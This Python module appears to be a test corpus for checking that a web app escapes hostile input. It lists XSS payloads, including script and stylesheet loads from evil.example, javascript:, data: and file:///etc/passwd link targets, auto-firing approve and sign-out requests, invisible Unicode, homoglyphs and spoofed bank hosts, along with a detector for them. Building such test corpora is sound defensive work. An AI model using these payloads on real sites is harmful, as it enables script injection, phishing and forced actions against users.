"""Texts that try to be more than text, or to be read as something else: one corpus for all.

``pwned()`` is what they want to call; a browser that has it counts the calls.
"""

import re
from functools import cache
from html.parser import HTMLParser
from typing import Any

from pydantic import JsonValue

#: Try to become markup, attributes, styles, templates or formats.
MARKUP = (
    "<script>pwned()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=pwned()>",
    '"><svg onload=pwned()>',
    "<svg><script href='data:text/javascript,pwned()'/></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math><mtext></form><mglyph><svg><mtext><style><path id='</style><img onerror=pwned() src>'>",
    "' onmouseover='pwned()' x='",
    '" autofocus onfocus="pwned()" x="',
    "`onload=pwned()",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    '<div style="background:url(//evil.example/pixel);position:fixed;inset:0">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<object data='data:text/html,<script>pwned()</script>'>",
    "<form action=//evil.example><button formaction='javascript:pwned()'>Keep",
    "<details open ontoggle=pwned()>",
    "<a href='javascript:pwned()' hx-get='/sign-out' hx-trigger='load'>x</a>",
    '<div hx-on:load="pwned()" data-hx-post="/cs/1/approve" hx-trigger="load">',
    "</textarea><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</code></pre><iframe src=//evil.example>",
    "<!--><script>pwned()</script>-->",
    "]]><script>pwned()</script>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;img src=x onerror=pwned()&#62;",
    "{{7*7}}{% raw %}{{ self.__init__ }}",
    "%(agent)s %s %% {0} {}",
    "{color:red}x{color} [x|javascript:pwned()] !x|onload=pwned()!",
    "[x](javascript:pwned()) ![x](data:image/svg+xml,<svg/onload=pwned()>)",
)

#: Targets of links that must lead nowhere.
TARGETS = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    " javascript:pwned()",
    "java\nscript:pwned()",
    "java\tscript:pwned()",
    "\x01javascript:pwned()",
    "&#106;avascript:pwned()",
    "javascript\u200b:pwned()",
    "data:text/html,<script>pwned()</script>",
    "data:image/svg+xml,<svg onload=pwned()>",
    "vbscript:pwned()",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "view-source:javascript:pwned()",
    "file:///etc/passwd",
    "//evil.example",
    "/cs/1/approve",
    "../approve",
    "#main",
    "?lang=ko",
    "\\\\evil.example",
    "http:\\evil.example",
    "https://",
    "https://good.example\u202egpj.exe",
    "http://[::1",
)

#: Cannot be seen, or turn text around; each between two plain words.
INVISIBLE = tuple(
    f"pay{one}ment"
    for one in (
        "\u202e",
        "\u202d",
        "\u2066",
        "\u2067",
        "\u2068",
        "\u200b",
        "\u200c",
        "\u200d",
        "\u200e",
        "\u2060",
        "\u2063",
        "\u2064",
        "\u00ad",
        "\u034f",
        "\u061c",
        "\u115f",
        "\u3164",
        "\uffa0",
        "\u2800",
        "\ufeff",
        "\u180e",
        "\u2028",
        "\x00",
        "\x08",
        "\x1b[2J",
        "\x85",
        "\U000e0041\U000e0042",
        "\ufe01\ufe02\U000e0121\U000e0122",
        "\U0001d173",
        "\ufffa",
    )
)
#: Letters that pass for Latin ones, in words.
ALIKE = ("p\u0430yment", "\u0421ancel", "g\u03bf\u03bfgle", "\u04cfogin", "adm\u0456n")
#: Hosts that read like ``bank.example``.
HOSTS = (
    "https://b\u0430nk.example/login",
    "https://bank\u3002evil.example/login",
    "https://\u0431\u0430\u043f\u043a.example/",
    "https://\u0430\u0440\u0440\u04cf\u0435.example/",
    "https://xn--bnk-7cd.example/",
    "https://bank.example@evil.example/",
    "https://bank.example%2eevil.example/",
)

EVERY = (*MARKUP, *TARGETS, *INVISIBLE, *ALIKE, *HOSTS)
#: All of it as one text, for places that hold one.
WHOLE = " \N{BULLET} ".join(EVERY)
#: Some of each, for documents that hold a word in forty places.
SOME = " \N{BULLET} ".join((*MARKUP[::8], *TARGETS[::8], *INVISIBLE[::8], ALIKE[0], HOSTS[0]))

#: What may be hidden must be written out; nothing of this may reach a reader as it is.
HIDDEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u034f\u061c\u115f\u1160\u180b-\u180e\u200b-\u200f"
    "\u2028-\u202e\u2060-\u206f\u2800\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb"
    "\U0001d173-\U0001d17a\U000e0000-\U000e0fff]|(?<=[a-z])[\u0430-\u04ff\u03b1-\u03c9]"
    "|[\u0430-\u04ff\u03b1-\u03c9](?=[a-z])"
)
_SAFE_SCHEME = re.compile(r"https?://\w|mailto:|[/?#](?!/)")
#: A person edits these, so they hold what is there.
_BOXES = {("input", "value"), ("option", "value")}


class Page(HTMLParser):
    """A page as a browser takes it: tags, attributes, words, links."""

    def __init__(self, html: str) -> None:
        super().__init__()
        #: Every kind of element: its tag and the names of its attributes.
        self.shapes: set[tuple[str, tuple[str, ...]]] = set()
        self.links: list[str] = []
        self.actions: list[str] = []
        #: What a reader sees, or hears: words and attributes.
        self.seen: list[str] = []
        self._in: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep an element."""
        self.shapes.add((tag, tuple(sorted(name for name, _ in attrs))))
        self._in.append(tag)
        for name, value in attrs:
            if name in ("href", "src"):
                self.links.append(value or "")
            elif name in ("action", "hx-post", "hx-get"):
                self.actions.append(value or "")
            elif (tag, name) not in _BOXES:
                self.seen.append(value or "")

    def handle_endtag(self, tag: str) -> None:
        """Leave an element."""
        while self._in and self._in.pop() != tag:
            pass

    def handle_data(self, data: str) -> None:
        """Keep words; a box for editing holds the text as it is."""
        if "textarea" not in self._in:
            self.seen.append(data)


@cache
def _shapes(html: str) -> frozenset[tuple[str, tuple[str, ...]]]:
    return frozenset(Page(html).shapes)


def faults(html: str, calm: str) -> list[str]:
    """Return what an attacked page has that the same page with calm words has not.

    The corpus may add the marks by which it is shown, and nothing else.
    """
    page, allowed = Page(html), _shapes(calm) | SHOWN
    found = [f"element {one}" for one in sorted(page.shapes - allowed)]
    found += [f"link {one!r}" for one in page.links if not _SAFE_SCHEME.match(one)]
    found += [f"form {one!r}" for one in page.actions if not re.fullmatch(r"/[\w/%.?=#-]*", one)]
    found += [f"way out {one!r}" for one in page.actions if "/.." in one]
    return found + [f"hidden {one!r}" for one in page.seen if HIDDEN.search(one)]


#: Marks by which an attack is shown.
SHOWN = {
    ("span", ("class",)),
    ("small", ("class",)),
    ("a", ("class", "href", "rel", "target", "title")),
    ("code", ()),
    ("b", ()),
    ("br", ()),
    ("ins", ()),
    ("del", ()),
}


def poisoned(value: Any, poison: str, keep: frozenset[str] = frozenset()) -> Any:
    """Return a JSON value with every text in it replaced, but below the keys to keep."""
    if isinstance(value, dict):
        return {
            name: one if name in keep else poisoned(one, poison, keep)
            for name, one in value.items()
        }
    if isinstance(value, list | tuple):
        return [poisoned(one, poison, keep) for one in value]
    return poison if isinstance(value, str) else value


def every_place(word: Any) -> JsonValue:
    """Return an ADF document with a word in every place that holds one."""

    def node(kind: Any, *content: Any, **attrs: Any) -> dict[str, Any]:
        return {"type": kind, "attrs": attrs, "content": list(content)}

    text: dict[str, Any] = {"type": "text", "text": word}
    marks = [
        {"type": "link", "attrs": {"href": word, "title": word}},
        {"type": "textColor", "attrs": {"color": word}},
        {"type": "annotation", "attrs": {"id": word}},
        {"type": word, "attrs": {word: word}},
    ]
    paragraph = node("paragraph", text)
    content: list[Any] = [
        node("paragraph", *({**text, "marks": [one]} for one in marks)),
        node(
            "paragraph",
            node("mention", id=word, text=word),
            node("emoji", shortName=word, text=word),
            node("status", text=word, color=word),
            node("date", timestamp=word),
            node("inlineCard", url=word),
            node("mediaInline", id=word, alt=word),
            node("inlineExtension", extensionKey=word, parameters={word: word}),
            node("placeholder", text=word),
        ),
        node("codeBlock", text, language=word),
        node("panel", paragraph, panelType=word, panelColor=word),
        node("expand", paragraph, title=word),
        node("heading", text, level=word),
        node("orderedList", node("listItem", paragraph), order=word),
        node("table", node("tableRow", node("tableCell", paragraph, colspan=word))),
        node("taskList", node("taskItem", text, state=word)),
        node("mediaSingle", node("media", alt=word, url=word, width=word, height=word)),
        node("blockCard", url=word),
        node("extension", extensionKey=word, text=word),
        node(word, paragraph),
        {"type": "paragraph", "attrs": word, "content": word, "marks": word},
        word,
    ]
    return {"type": "doc", "version": 1, "content": content}
